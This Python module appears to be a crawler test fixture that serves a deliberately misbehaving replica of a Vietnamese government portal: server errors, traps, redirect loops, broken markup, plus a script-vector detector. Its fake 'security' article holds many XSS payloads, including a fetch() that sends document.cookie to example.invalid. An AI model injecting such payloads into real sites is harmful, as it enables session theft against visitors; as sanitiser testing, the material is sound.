"""A hostile replica: the ordinary replica of the site plus every way a real server misbehaves.

A provincial portal is slow, flaky and inconsistent, and a crawl of it runs for hours
unattended. This mode serves `crawler.replica`'s site unchanged and adds, at known URLs
linked from a `Thông báo` box on the home page: transient 500/503 errors, a response
slower than the download timeout, a body cut short of its Content-Length, a 30 MB page,
mislabelled content types, an endless pagination trap and an endless calendar, a
redirect loop and a redirect off the site, one article under two URLs, unclosed tags,
an impossible date, an empty body, links in schemes a crawler must not follow, a
4,000-character URL, and an article body full of script payloads.

`HostileReplica` is the ground truth: where each case is served and what a correct
crawl records for it (`cases`, `articles`, `expected_errors`, `trap_prefixes`…), so a
crawl of it can be checked exactly. `HostileServer` serves it, counting requests per URL
so that the transient errors succeed on a retry.

    python -m crawler.replica.hostile --port 8000 --articles 60 --slow-seconds 5
"""

from __future__ import annotations

import argparse
import html
import random
import re
import threading
from collections import Counter
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from http import HTTPStatus
from urllib.parse import parse_qsl

import lxml.html

from crawler.replica import (
    DATA_DIR,
    HTML_UTF8,
    JUSTIFY,
    NO_IMAGE,
    SECTIONS,
    VIETNAM,
    Replica,
    ReplicaArticle,
    ReplicaServer,
    Resource,
    _breadcrumb,
    _Handler,
    _redirect,
    ascii_slug,
    build_replica,
    format_site_date,
)

RETRY_AFTER_SECONDS = 1  # short, so a crawl that honours it stays fast in tests
TRANSIENT_FAILURES = 2  # failed answers before success: within Scrapy's default RETRY_TIMES
LARGE_PAGE_BYTES = 30 * 1024 * 1024
LONG_URL_LENGTH = 4000  # path and query, as the request line carries it
OFFSITE_HOST = "example.invalid"  # RFC 2606: can never resolve, so a leak fails loudly
OFFSITE_URL = f"http://{OFFSITE_HOST}/tin-tuc/cai-cach-hanh-chinh-lai-chau.html"
TRAP_LISTING = "/thong-bao"
CALENDAR = "/lich"
CALENDAR_START = date(2021, 9, 24)
HUB_TITLE = "Thông báo"

# What must never survive in a stored body_html, checked by `script_vectors`: elements
# that run script or load active content, event-handler attributes, and script URLs.
UNSAFE_TAGS = frozenset(
    "script iframe frame frameset object embed applet svg math style link meta base form noscript template".split()
)
URL_ATTRIBUTES = frozenset("href src action formaction xlink:href background poster srcset data".split())
UNSAFE_URL = re.compile(r"^(javascript|vbscript|livescript):|^data:(text/html|image/svg|application/xhtml)")
UNSAFE_STYLE = re.compile(r"javascript:|expression\s*\(|behavior\s*:|-moz-binding", re.IGNORECASE)

# Links a crawler must neither request nor record as pages: no http(s), or no address at all.
UNFOLLOWABLE_HREFS = (
    "javascript:void(0)",
    "javascript:window.open('/phan-anh-kien-nghi')",
    "mailto:cchc@laichau.gov.vn?subject=Ph%E1%BA%A3n%20%C3%A1nh",
    "tel:02133876650",
    "tel:+84-213-3876-650",
    "sms:+842133876650",
    "ftp://cchc.laichau.gov.vn/bieu-mau/phan-anh.doc",
    "file:///C:/Users/admin/Desktop/bieu-mau.doc",
    "data:text/plain;base64,VGjDtG5nIGLDoW8=",
)


@dataclass(frozen=True)
class HostileCase:
    """One misbehaviour: where it is served, its link on the home page, what a correct crawl records."""

    name: str
    path: str  # path and query, as requested
    title: str  # the link text in the home page's `Thông báo` box
    expectation: str


@dataclass
class HostileArticle(ReplicaArticle):
    """Ground truth of an article of the hostile replica: its fields and what makes it hostile."""

    published: str | None  # None: the page's date cannot be a date (`published_raw` keeps it)
    flags: frozenset[str] = frozenset()  # transient, octet-stream, duplicate, unclosed-tags, unparseable-date…
    aliases: tuple[str, ...] = ()  # other paths serving the same page, without a canonical link


@dataclass
class Answer:
    """How the server answers one request: the resource, a delay first, or a lying Content-Length."""

    resource: Resource
    delay: float = 0.0
    declared_length: int | None = None  # sent as Content-Length instead of len(body); then the server hangs up


@dataclass
class HostileReplica:
    """The ordinary replica plus the hostile cases, and what a correct crawl of it records.

    Every path is a path and query on the replica's host. A correct crawl from `/`:
    stores exactly `all_articles` (an article of `duplicates` under one of its URLs only),
    never stores a path of `not_articles` as an article, records every path of
    `expected_errors` in `pages` with an error, retries `transient` paths to success,
    requests only a bounded number of URLs under `trap_prefixes`, and never requests
    `offsite_hosts` or `unfollowable` hrefs. `expected_errors` holds when the crawl's
    download timeout is below `slow_seconds`.
    """

    replica: Replica
    slow_seconds: float
    cases: dict[str, HostileCase]
    articles: list[HostileArticle]
    transient: dict[str, tuple[int, int]]  # path -> (status, failed answers before success)
    expected_errors: dict[str, str]  # path -> kind: timeout, truncated, redirect-loop, offsite-redirect
    not_articles: tuple[str, ...]
    duplicates: dict[str, str]  # alias path -> the article's own path
    trap_prefixes: tuple[str, ...]
    redirect_loop: tuple[str, str]  # A redirects to B, B back to A
    offsite_redirect: dict[str, str]  # path -> off-site Location
    offsite_hosts: tuple[str, ...]
    unfollowable: tuple[str, ...]
    mislabelled: dict[str, str]  # path -> what the bytes really are, against the declared Content-Type
    long_url: str
    large_page: str
    slow_page: str
    truncated_page: str
    resources: dict[str, Resource] = field(repr=False, default_factory=dict)
    shell: str = field(repr=False, default="")  # a served page, whose main column the trap pages fill
    _large: Resource | None = field(default=None, repr=False, compare=False)
    _large_lock: threading.Lock = field(default_factory=threading.Lock, repr=False, compare=False)

    @property
    def all_articles(self) -> list[ReplicaArticle]:
        """Every article a correct crawl stores: the ordinary site's and the hostile ones."""
        return [*self.replica.articles, *self.articles]

    def article(self, path: str) -> ReplicaArticle:
        """The ground truth of the article at `path` (hostile or ordinary; aliases count)."""
        for article in self.articles:
            if path == article.path or path in article.aliases:
                return article
        return self.replica.article(path)

    def answer(self, path_and_query: str, attempt: int = 1, base: str | None = None) -> Answer:
        """The answer to the `attempt`-th request of a path (1 is the first); `base` replaces `__BASE__`."""
        path_and_query = path_and_query.split("#", 1)[0] or "/"
        answer = self._answer(path_and_query, attempt)
        if base is not None:
            answer.resource = answer.resource.with_base(base)
        return answer

    def _answer(self, path_and_query: str, attempt: int) -> Answer:
        if path_and_query in self.transient:
            status, failures = self.transient[path_and_query]
            if attempt <= failures:
                return Answer(_server_error(status))
        if path_and_query == self.slow_page:
            return Answer(self.resources[path_and_query], delay=self.slow_seconds)
        if path_and_query == self.truncated_page:
            full = self.resources[path_and_query]
            cut = _truncation_point(full.body)
            return Answer(Resource(full.status, dict(full.headers), full.body[:cut]), declared_length=len(full.body))
        if path_and_query == self.large_page:
            return Answer(self._large_resource())
        found = self.resources.get(path_and_query)
        if found is not None:
            return Answer(found)
        path, _, query = path_and_query.partition("?")
        if path == TRAP_LISTING and query:
            return Answer(self._trap_page(query))
        if path == CALENDAR:
            return Answer(self._calendar_page(query))
        return Answer(self.replica.get(path_and_query))

    def _large_resource(self) -> Resource:
        # Built on first request: most tests never fetch 30 MB.
        with self._large_lock:
            if self._large is None:
                self._large = Resource(200, {"Content-Type": HTML_UTF8}, _large_page_body(self))
            return self._large

    def _trap_page(self, query: str) -> Resource:
        number = dict(parse_qsl(query)).get("page", "")
        if not number.isdigit() or int(number) < 1:
            return self.replica.not_found
        return _html_resource(self._shell(_trap_listing(self.replica, int(number))))

    def _calendar_page(self, query: str) -> Resource:
        raw = dict(parse_qsl(query)).get("ngay", CALENDAR_START.isoformat())
        try:
            day = date.fromisoformat(raw)
        except ValueError:
            return self.replica.not_found
        if raw != day.isoformat():  # one address per day, as the site's calendar writes them
            return self.replica.not_found
        return _html_resource(self._shell(_calendar(day)))

    def _shell(self, page: tuple[str, str]) -> str:
        title, main = page
        return _in_shell(self.shell, title, main)


# --------------------------------------------------------------------------------------
# Pages


def _esc(text: str) -> str:
    return html.escape(text, quote=False)


def _html_resource(text: str, content_type: str = HTML_UTF8) -> Resource:
    return Resource(200, {"Content-Type": content_type}, text.encode("utf-8"))


def _server_error(status: int) -> Resource:
    """IIS's error page; a 503 says when to come back."""
    phrase = HTTPStatus(status).phrase
    body = (f"<!DOCTYPE html><html><head><title>{status} - {phrase}</title></head>"
            f"<body><h1>{status} - {phrase}</h1><p>Máy chủ đang bận, vui lòng thử lại sau.</p></body></html>")  # fmt: skip
    headers = {"Content-Type": HTML_UTF8}
    if status == 503:
        headers["Retry-After"] = str(RETRY_AFTER_SECONDS)
    return Resource(status, headers, body.encode("utf-8"))


_MAIN = re.compile(r'(<div id="main-col">\n).*?(\n</div>\n<div id="right-col">)', re.DOTALL)
_TITLE = re.compile(r"<title>.*?</title>", re.DOTALL)


def _in_shell(template: str, title: str, main: str) -> str:
    """A page in the site shell, taken from a served page: header, menu, `Tin mới nhất`, footer."""
    page = _TITLE.sub(lambda _: f"<title>{_esc(title)}</title>", template, count=1)
    return _MAIN.sub(lambda m: m.group(1) + main + m.group(2), page, count=1)


def _article_main(category: str, title: str, date_raw: str, body: str) -> str:
    """The article block in the replica's markup (without the print link: no print view here)."""
    return (
        f"{_breadcrumb(SECTIONS[category])}\n"
        f'<div class="news-detail">\n'
        f'  <h1 class="news-title">{_esc(title)}</h1>\n'
        f'  <div class="news-date">(Ngày đăng :{date_raw})</div>\n'
        f'  <div class="news-content">\n{body}  </div>\n'
        f'  <div class="news-tools">\n'
        f'    <a href="mailto:?subject={html.escape(title[:40])}" class="email">Gửi email</a>\n'
        f"  </div>\n"
        f"</div>\n"
    )


def _static_main(path: str, name: str, content: str, extra_class: str = "") -> str:
    css = f"static-page {extra_class}".strip()
    return (f'{_breadcrumb(((path, name),))}\n<div class="{css}">\n  <h1 class="page-title">{_esc(name)}</h1>\n'
            f'  <div class="page-content">\n{content}\n  </div>\n</div>')  # fmt: skip


def _trap_listing(replica: Replica, number: int) -> tuple[str, str]:
    """`/thong-bao?page=N`: the same ten notices for every N, and always a `Trang sau`."""
    newest = sorted(replica.articles, key=lambda a: (a.published, a.site_id), reverse=True)[:10]
    items = "".join(
        f'  <div class="item-news clearfix">\n'
        f'    <h3 class="title"><a href="{a.path}">{_esc(a.title)}</a></h3>\n'
        f'    <span class="date">({a.published_raw})</span>\n'
        f"  </div>\n"
        for a in newest
    )

    def href(page: int) -> str:
        return f"{TRAP_LISTING}?page={page}"

    pager = [f'<a href="{href(number - 1)}" class="prev">Trang trước</a>'] if number > 1 else []
    for n in range(max(1, number - 4), number + 6):
        active = ' class="active"' if n == number else ""
        pager.append(f'<a href="{href(n)}"{active}>{n}</a>')
    pager.append(f'<a href="{href(number + 1)}" class="next">Trang sau</a>')
    main = (f"{_breadcrumb(((TRAP_LISTING, HUB_TITLE),))}\n"
            f'<div class="list-news">\n  <h2 class="cat-title">{HUB_TITLE}</h2>\n{items}</div>\n'
            f'<div class="pager">{" ".join(pager)}</div>')  # fmt: skip
    return HUB_TITLE, main


def _calendar(day: date) -> tuple[str, str]:
    """`/lich?ngay=YYYY-MM-DD`: an empty day linking to the day before and the day after, forever."""
    links = []
    if day > date.min:
        links.append(f'<a href="{CALENDAR}?ngay={(day - timedelta(days=1)).isoformat()}" class="prev">Ngày trước</a>')
    if day < date.max:
        links.append(f'<a href="{CALENDAR}?ngay={(day + timedelta(days=1)).isoformat()}" class="next">Ngày sau</a>')
    content = (f"    <p>Lịch công tác ngày {day:%d/%m/%Y} của Ban Chỉ đạo cải cách hành chính tỉnh.</p>\n"
               f"    <p>Chưa có lịch công tác trong ngày.</p>\n    <p>{' | '.join(links)}</p>")  # fmt: skip
    return "Lịch công tác", _static_main(CALENDAR, "Lịch công tác", content, "lich-cong-tac")


# A procedure catalogue is the kind of page a portal lets grow to tens of megabytes.
_PROCEDURES = (
    "Cấp giấy chứng nhận đăng ký hộ kinh doanh", "Đăng ký khai sinh", "Chứng thực bản sao từ bản chính",
    "Cấp phiếu lý lịch tư pháp", "Đăng ký thường trú", "Cấp giấy phép xây dựng nhà ở riêng lẻ",
    "Thẩm định hồ sơ thành lập trường mầm non", "Cấp đổi giấy phép lái xe",
)  # fmt: skip
_AGENCIES = ("Sở Tư pháp", "Sở Xây dựng", "Sở Giao thông vận tải", "Sở Giáo dục và Đào tạo",
             "Công an tỉnh", "UBND cấp huyện", "UBND cấp xã")  # fmt: skip


def _large_page_body(hostile: HostileReplica) -> bytes:
    """Exactly LARGE_PAGE_BYTES of one HTML page: a table of procedures, padded by a comment."""
    head, tail = hostile._shell(("Danh mục thủ tục hành chính", "@@TABLE@@")).split("@@TABLE@@")
    head += ('<div class="static-page danh-muc-tthc">\n  <h1 class="page-title">Danh mục thủ tục hành chính</h1>\n'
             '  <table class="tthc">\n    <tr><th>STT</th><th>Tên thủ tục</th><th>Cơ quan thực hiện</th>'
             "<th>Mức độ</th></tr>\n")  # fmt: skip
    tail = "  </table>\n</div>" + tail
    budget = LARGE_PAGE_BYTES - len(head.encode()) - len(tail.encode()) - len("<!--  -->")
    rows, size, number = [], 0, 0
    while True:
        number += 1
        row = (f"    <tr><td>{number}</td><td>{_PROCEDURES[number % len(_PROCEDURES)]}</td>"
               f"<td>{_AGENCIES[number % len(_AGENCIES)]}</td><td>Mức độ {3 + number % 2}</td></tr>\n").encode()
        if size + len(row) > budget:
            break
        rows.append(row)
        size += len(row)
    padding = b"<!-- " + b" " * (budget - size) + b" -->"
    return head.encode() + b"".join(rows) + padding + tail.encode()


def _truncation_point(body: bytes) -> int:
    """Where the truncated page stops: inside the article body, after its first paragraph."""
    start = body.find(b'<div class="news-content">')
    first_end = body.find(b"</p>", start)
    return first_end + len(b"</p>") if start >= 0 and first_end >= 0 else len(body) // 2


def script_vectors(body_html: str) -> list[str]:
    """What in an HTML fragment could run script when rendered; [] for an inert body.

    Parsed, not searched: `&lt;script&gt;` shown as text is harmless and not reported.
    """
    if not body_html.strip():
        return []
    found = []
    for element in lxml.html.fragment_fromstring(body_html, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions never run
        tag = element.tag.lower()
        if tag in UNSAFE_TAGS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower()
            # Browsers ignore control characters and spaces inside a scheme: "java\tscript:" runs.
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and UNSAFE_URL.match(url):
                found.append(f"<{tag} {name}={value[:40]!r}>")
            elif name == "style" and UNSAFE_STYLE.search(value):
                found.append(f"<{tag} style={value[:40]!r}>")
            elif name == "srcdoc":
                found.append(f"<{tag} srcdoc>")
    return found


# --------------------------------------------------------------------------------------
# The builder


@dataclass
class _Block:
    html: str
    text: str | None = None  # the visible text as one paragraph; None when nothing shows
    links: list[str] = field(default_factory=list)


class _HostileBuilder:
    """Adds the hostile cases to a built replica; all choices come from `seed`."""

    def __init__(self, replica: Replica, seed: int, slow_seconds: float, transient_failures: int) -> None:
        self.replica = replica
        self.rng = random.Random(f"hostile-{seed}")
        self.slow_seconds = slow_seconds
        self.transient_failures = transient_failures
        self.resources: dict[str, Resource] = {}
        self.cases: dict[str, HostileCase] = {}
        self.articles: list[HostileArticle] = []
        # Hostile ids sit above every ordinary id, as newer articles of the CMS.
        self.next_id = (max(a.site_id for a in replica.articles) // 100 + 1) * 100 + 1
        self.moment = datetime(2024, 11, 4, 8, 30, tzinfo=VIETNAM)
        self.shell = replica.get("/lien-he").body.decode("utf-8")
        self.paragraph_pool = sorted({
            p for a in replica.articles if a.variant == "utf-8" for p in a.paragraphs
            if len(p) > 80 and not p.startswith("Xem thêm")
        })  # fmt: skip

    def case(self, name: str, path: str, title: str, expectation: str) -> str:
        self.cases[name] = HostileCase(name, path, title, expectation)
        return path

    def page(self, title: str, main: str) -> str:
        return _in_shell(self.shell, title, main)

    def prose(self, count: int) -> list[_Block]:
        return [_Block(f"{JUSTIFY}{_esc(text)}</p>", text) for text in self.rng.sample(self.paragraph_pool, count)]

    def article(self, category: str, title: str, blocks: list[_Block], *, flags: frozenset[str] | set[str] = frozenset(),
                date_raw: str | None = None, images: list[dict] | None = None) -> HostileArticle:  # fmt: skip
        """A new article page (not yet served) and its ground truth."""
        site_id, self.next_id = self.next_id, self.next_id + 1
        self.moment += timedelta(days=1, hours=self.rng.randrange(1, 9), minutes=self.rng.randrange(60))
        published = self.moment.isoformat()
        if date_raw is None:
            date_raw = format_site_date(self.moment)
        else:
            published = None
        path = f"/{category}/{ascii_slug(title)}-{site_id}.html"
        breadcrumb = ["Trang chủ"] + [name for _, name in SECTIONS[category]]
        body = "\n".join(block.html for block in blocks) + "\n<p>&nbsp;</p>\n"
        self.resources[path] = _html_resource(self.page(title, _article_main(category, title, date_raw, body)))
        return HostileArticle(
            path=path, site_id=site_id, title=title, published=published, published_raw=date_raw,
            breadcrumb=breadcrumb, category=breadcrumb[-1], paragraphs=[b.text for b in blocks if b.text],
            images=images or [], attachments=[], related=[], body_links=[p for b in blocks for p in b.links],
            variant="utf-8", flags=frozenset(flags),
        )  # fmt: skip

    def keep(self, article: HostileArticle, name: str, expectation: str, link_title: str | None = None) -> None:
        self.articles.append(article)
        self.case(name, article.path, link_title or article.title, expectation)

    # ---- the cases

    def transient_articles(self) -> dict[str, tuple[int, int]]:
        transient = {}
        for status, name, category, title in (
            (500, "server-error", "tin-tuc-su-kien/tin-cchc-cua-tinh",
             "Sở Nội vụ hướng dẫn cập nhật hồ sơ công chức trên phần mềm quản lý cán bộ"),
            (503, "service-unavailable", "tin-tuc-su-kien/tin-cchc-cua-tinh",
             "UBND tỉnh chỉ đạo đẩy mạnh thanh toán trực tuyến phí, lệ phí thủ tục hành chính"),
        ):  # fmt: skip
            article = self.article(category, title, self.prose(4), flags={"transient"})
            transient[article.path] = (status, self.transient_failures)
            retry_after = f" with Retry-After: {RETRY_AFTER_SECONDS}" if status == 503 else ""
            self.keep(article, name, f"HTTP {status}{retry_after} for the first {self.transient_failures} "
                                     "requests, then the article: retried, stored, its page row 200 without error")  # fmt: skip
        return transient

    def slow_page(self) -> str:
        path = "/lich-tiep-cong-dan"
        content = ("    <p>Lãnh đạo Sở Nội vụ tiếp công dân vào ngày thứ Năm hằng tuần.</p>\n"
                   "    <p>Địa điểm: Phòng tiếp công dân, tầng 1, nhà D, khu Hành chính - Chính trị tỉnh.</p>")  # fmt: skip
        self.resources[path] = _html_resource(self.page("Lịch tiếp công dân",
                                                        _static_main(path, "Lịch tiếp công dân", content)))  # fmt: skip
        return self.case("slow", path, "Lịch tiếp công dân",
                         f"answers after {self.slow_seconds:g} s: with a shorter download timeout, "
                         "a pages row with a timeout error")  # fmt: skip

    def truncated_page(self) -> str:
        title = "Báo cáo tình hình giải quyết hồ sơ thủ tục hành chính tháng 10 năm 2024"
        article = self.article("ket-qua-cchc/bao-cao-cchc-dinh-ky", title, self.prose(5))
        return self.case("truncated", article.path, title,
                         "Content-Length larger than the body, which stops after its first paragraph: "
                         "a pages row with an error, no article")  # fmt: skip

    def large_page(self) -> str:
        return self.case("large", "/van-ban-cchc/danh-muc-thu-tuc-hanh-chinh", "Danh mục thủ tục hành chính",
                         f"a {LARGE_PAGE_BYTES // 2**20} MB HTML page: a pages row (fetched, or an error naming "
                         "the size limit), no article, the crawl's memory bounded")  # fmt: skip

    def mislabelled(self) -> tuple[str, str]:
        pdf_path = self.case("pdf-as-html", "/tai-lieu/ke-hoach-2790-kh-ubnd", "Kế hoạch 2790/KH-UBND",
                             "a PDF served as text/html: a pages row for a document or attachment, no article")  # fmt: skip
        pdf = (DATA_DIR / "2790-KH-UBND.pdf").read_bytes()
        self.resources[pdf_path] = Resource(200, {"Content-Type": HTML_UTF8}, pdf)
        title = "Triển khai nền tảng số dùng chung trong các cơ quan nhà nước tỉnh Lai Châu"
        article = self.article("chuyen-doi-so", title, self.prose(4), flags={"octet-stream"})
        page = self.resources[article.path]
        self.resources[article.path] = Resource(200, {"Content-Type": "application/octet-stream"}, page.body)
        self.keep(article, "article-as-octet-stream",
                  "an HTML article served as application/octet-stream: sniffed as HTML and stored")
        return pdf_path, article.path

    def traps(self) -> tuple[str, str]:
        self.resources[TRAP_LISTING] = _html_resource(self.page(*_trap_listing(self.replica, 1)))
        listing = self.case("pagination-trap", TRAP_LISTING, HUB_TITLE,
                            f"{TRAP_LISTING}?page=N lists the same ten articles for every N with a `Trang sau` "
                            "to N+1: a bounded number of requests, no article")  # fmt: skip
        start = f"{CALENDAR}?ngay={CALENDAR_START.isoformat()}"
        calendar = self.case("calendar-trap", start, "Lịch công tác",
                             f"{CALENDAR}?ngay=YYYY-MM-DD links to the day before and after, forever: "
                             "a bounded number of requests, no article")  # fmt: skip
        return listing, calendar

    def redirects(self) -> tuple[tuple[str, str], str]:
        a, b = "/chuyen-huong/vong-lap-a", "/chuyen-huong/vong-lap-b"
        self.resources[a] = _redirect(302, b)
        self.resources[b] = _redirect(302, a)
        self.case("redirect-loop", a, "Trang chuyển hướng",
                  f"{a} -> {b} -> {a}: both hops recorded as redirects, the hop back to {a} with a loop error")
        offsite = "/chuyen-huong/lien-ket-ngoai"
        self.resources[offsite] = _redirect(302, OFFSITE_URL)
        self.case("offsite-redirect", offsite, "Liên kết ngoài",
                  f"302 to {OFFSITE_URL}: a redirect row with an error, {OFFSITE_HOST} never requested")
        return (a, b), offsite

    def duplicate(self) -> str:
        title = "Hội nghị tập huấn kỹ năng tiếp nhận hồ sơ tại bộ phận một cửa các cấp"
        article = self.article("tin-tuc-su-kien/tin-cchc-cua-tinh", title, self.prose(5), flags={"duplicate"})
        alias = f"/tin-tuc-su-kien/{ascii_slug(title)}-{article.site_id}.html"  # the parent section's URL of it
        self.resources[alias] = self.resources[article.path]
        article.aliases = (alias,)
        self.keep(article, "duplicate", "the same page under two URLs, no canonical link: one article row")
        self.case("duplicate-alias", alias, f"{title} (chuyên mục cha)", "the alias of `duplicate`: no second article")
        return alias

    def unclosed_tags(self) -> None:
        title = "Kết quả khảo sát mức độ hài lòng của người dân tại huyện Tam Đường"
        prose = self.prose(3)
        items = self.prose(2)
        blocks = [
            _Block(f"{JUSTIFY}<strong>{_esc(prose[0].text)}", prose[0].text),  # <strong> never closed
            _Block(f"{JUSTIFY}{_esc(prose[1].text)}", prose[1].text),
            _Block("<ul>"),
            *(_Block(f"<li><em>{_esc(item.text)}", item.text) for item in items),  # nor <em>
            _Block("</ul>"),
            _Block(f"<p>{_esc(prose[2].text)}", prose[2].text),
        ]
        article = self.article("ket-qua-cchc/chi-so-cchc", title, blocks, flags={"unclosed-tags"})
        # End tags HTML lets a page omit, omitted everywhere on the page; the document is never closed.
        text = self.resources[article.path].body.decode("utf-8")
        text = re.sub(r"</(p|li|td|tr|body|html)>", "", text)
        self.resources[article.path] = _html_resource(text)
        self.keep(article, "unclosed-tags", "no closing </p>, </li>, </td>, </tr>, </body>, </html>, an "
                                            "unclosed <strong> and <em>: every field exact")  # fmt: skip

    def bad_date(self) -> None:
        title = "Thông báo kết quả kiểm tra công tác cải cách hành chính năm 2021"
        article = self.article("ket-qua-cchc/bao-cao-cchc-dinh-ky", title, self.prose(4),
                               flags={"unparseable-date"}, date_raw="32/13/2021 10:15:00 SA")  # fmt: skip
        self.keep(article, "impossible-date", "dated 32/13/2021: stored with `published` empty, "
                                              "`published_raw` kept, the row flagged")  # fmt: skip

    def empty_body(self) -> None:
        title = "Hình ảnh hoạt động tuần lễ cải cách hành chính tại thành phố Lai Châu"
        article = self.article("tin-tuc-su-kien/tin-cchc-cua-tinh", title, [], flags={"empty-body"})
        self.keep(article, "empty-body", "title and date, an empty body: stored with an empty body_text, flagged")

    def scheme_links(self) -> None:
        title = "Đường dây nóng tiếp nhận phản ánh, kiến nghị về thủ tục hành chính"
        a = [f'<a href="{html.escape(href)}">' for href in UNFOLLOWABLE_HREFS]
        blocks = [
            *self.prose(2),
            _Block(f"<p>Gọi đường dây nóng {a[3]}0213.3876.650</a> hoặc {a[4]}+84 213 3876 650</a>, "
                   f"nhắn tin {a[5]}tại đây</a>.</p>",
                   "Gọi đường dây nóng 0213.3876.650 hoặc +84 213 3876 650, nhắn tin tại đây."),
            _Block(f"<p>Thư điện tử: {a[2]}cchc@laichau.gov.vn</a>; phản ánh trực tuyến "
                   f'<a href="javascript:void(0)" onclick="moBieuMau()">tại đây</a> hoặc {a[1]}mở biểu mẫu</a>.</p>',
                   "Thư điện tử: cchc@laichau.gov.vn; phản ánh trực tuyến tại đây hoặc mở biểu mẫu."),
            _Block(f"<p>Tải biểu mẫu qua {a[6]}máy chủ FTP</a>, {a[7]}bản lưu trên máy</a> hoặc "
                   f"{a[8]}tệp nhúng</a>; xem thêm mục <a href=\"/hoi-dap\">Hỏi đáp</a>.</p>",
                   "Tải biểu mẫu qua máy chủ FTP, bản lưu trên máy hoặc tệp nhúng; xem thêm mục Hỏi đáp.",
                   ["/hoi-dap"]),
        ]  # fmt: skip
        article = self.article("hoi-dap", title, blocks, flags={"scheme-links"})
        self.keep(article, "scheme-links", "javascript:, mailto:, tel:, sms:, ftp:, file:, data: links: "
                                           "none requested, none in pages or links; the article stored")  # fmt: skip

    def security(self) -> None:
        title = "Cảnh báo thư điện tử giả mạo cơ quan nhà nước chứa mã độc"
        intro, closing = self.prose(2)
        escaped = "Thư giả mạo thường chứa đoạn mã như <script>alert(document.cookie)</script>; không mở tệp đính kèm."
        blocks = [
            intro,
            _Block(f"<p>{_esc(escaped)}</p>", escaped),  # shown as text: must stay text, escaped
            _Block('<script>alert("xss")</script>\n<script type="text/javascript" src="https://example.invalid/a.js"></script>'),
            _Block(f'<p><img src="{NO_IMAGE}" alt="" onerror="alert(document.cookie)" '
                   "onload=\"fetch('https://example.invalid/?c='+document.cookie)\" /></p>"),
            _Block("<p>Người dân có thể tra cứu <a href=\"javascript:alert('xss')\">tại đây</a>, "
                   '<a href="JaVaScRiPt:alert(2)">tại trang này</a> hoặc <a href="&#106;avascript:alert(3)">'
                   "liên kết này</a>.</p>",
                   "Người dân có thể tra cứu tại đây, tại trang này hoặc liên kết này."),
            _Block('<p>Hướng dẫn chi tiết xem <a href=" javascript:alert(4)" onclick="alert(5)">hướng dẫn</a> và '
                   '<a href="/gioi-thieu" onmouseover="alert(6)">trang giới thiệu</a>.</p>',
                   "Hướng dẫn chi tiết xem hướng dẫn và trang giới thiệu.", ["/gioi-thieu"]),
            _Block('<iframe src="https://example.invalid/quang-cao" width="1" height="1"></iframe>\n'
                   '<iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;"></iframe>'),
            _Block('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(8)"><circle cx="5" cy="5" r="4" /></svg>'),
            _Block('<object data="javascript:alert(9)"></object><embed src="javascript:alert(10)" />'),
            _Block('<form action="javascript:alert(11)"><input type="submit" value="Gửi" /></form>'),
            _Block('<div style="background-image: url(javascript:alert(12))" onclick="alert(13)">'
                   "Tệp đính kèm của thư giả mạo đã được gỡ bỏ khỏi hệ thống.</div>",
                   "Tệp đính kèm của thư giả mạo đã được gỡ bỏ khỏi hệ thống."),
            _Block('<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">Biểu mẫu khai báo</a> '
                   '<a href="vbscript:msgbox(15)">(bản cũ)</a></p>', "Biểu mẫu khai báo (bản cũ)"),
            _Block('<p><img src="javascript:alert(16)" alt="" /></p>'),
            _Block('<style>body { background: url("javascript:alert(17)") }</style>\n'
                   '<meta http-equiv="refresh" content="0;url=javascript:alert(18)" />'),
            _Block('<noscript><p title="</noscript><img src=x onerror=alert(19)>"></p></noscript>'),
            _Block('<video><source src="/khong-co.mp4" onerror="alert(20)" /></video>'),
            closing,
        ]  # fmt: skip
        article = self.article("chuyen-doi-so", title, blocks, flags={"security"},
                               images=[{"src": NO_IMAGE, "alt": "", "caption": None}])  # fmt: skip
        self.keep(article, "security", "<script>, on* handlers, javascript: links, <iframe>, <svg onload>…: "
                                       "body_text and images exact, `script_vectors(body_html) == []`")  # fmt: skip

    def long_url(self) -> str:
        listing = "/tin-tuc-su-kien/tin-cchc-cua-tinh"
        prefix = f"{listing}?__VIEWSTATE="
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        token = "".join(self.rng.choice(alphabet) for _ in range(LONG_URL_LENGTH - len(prefix)))
        path = prefix + token
        self.resources[path] = self.replica.get(listing)  # the server ignores the stray state, as IIS does
        return self.case("long-url", path, "Tin CCHC của tỉnh (phiên cũ)",
                         f"a {LONG_URL_LENGTH}-character URL serving a listing: skipped for its length or "
                         "recorded as a listing, never an article")  # fmt: skip

    def home_page(self) -> None:
        """The home page with a `Thông báo` box linking every case, and raw links in odd schemes."""
        items = [f'<li><a href="{html.escape(case.path)}">{_esc(case.title)}</a></li>' for case in self.cases.values()]
        items += [f'<li><a href="{html.escape(href)}">Liên hệ</a></li>' for href in UNFOLLOWABLE_HREFS[:4]]
        box = f'<div class="box-cat box-notices"><h3>{HUB_TITLE}</h3><ul>\n' + "\n".join(items) + "\n</ul></div>\n"
        home = self.replica.get("/")
        marker = b'<div id="main-col">\n'
        if marker not in home.body:
            raise ValueError("the replica's home page has no main column to put the notices in")
        self.resources["/"] = Resource(home.status, dict(home.headers),
                                       home.body.replace(marker, marker + box.encode("utf-8"), 1))  # fmt: skip

    def build(self) -> HostileReplica:
        transient = self.transient_articles()
        slow = self.slow_page()
        truncated = self.truncated_page()
        large = self.large_page()
        pdf_path, octet_path = self.mislabelled()
        listing, calendar = self.traps()
        loop, offsite = self.redirects()
        alias = self.duplicate()
        self.unclosed_tags()
        self.bad_date()
        self.empty_body()
        self.scheme_links()
        self.security()
        long_url = self.long_url()
        self.home_page()
        return HostileReplica(
            replica=self.replica,
            slow_seconds=self.slow_seconds,
            cases=self.cases,
            articles=self.articles,
            transient=transient,
            expected_errors={slow: "timeout", truncated: "truncated", loop[1]: "redirect-loop",
                             offsite: "offsite-redirect"},  # fmt: skip
            not_articles=(slow, truncated, large, pdf_path, listing, calendar, *loop, offsite, long_url),
            duplicates={alias: self.cases["duplicate"].path},
